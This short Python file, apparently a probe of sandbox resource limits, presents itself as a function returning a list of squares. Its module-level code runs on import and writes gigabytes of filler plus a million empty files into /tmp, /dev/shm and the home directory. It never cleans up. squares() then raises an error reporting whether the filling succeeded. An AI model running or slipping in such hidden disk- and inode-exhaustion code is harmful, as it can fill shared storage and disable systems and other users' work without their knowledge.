import os

done = []
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    if os.path.exists(f"{folder}/filled0"):
        done.append(f"{folder} still held what an earlier process left")
    written = 0
    try:
        for number in range(100):
            with open(f"{folder}/filled{number}", "wb", buffering=0) as file:
                for _ in range(31):
                    written += file.write(b"x" * 2**20)
    except OSError:
        pass
    if written > 70 * 2**20:
        done.append(f"{written} bytes into {folder}")
    try:
        for number in range(10**6):
            open(f"{folder}/empty{number}", "w").close()
        done.append(f"a million files into {folder}")
    except OSError:
        pass


def squares(n):
    if done:
        raise RuntimeError(f"it did: {done[:5]}")
    if n < 1:
        raise ValueError("n must be positive")
    return [i**2 for i in range(1, n + 1)]
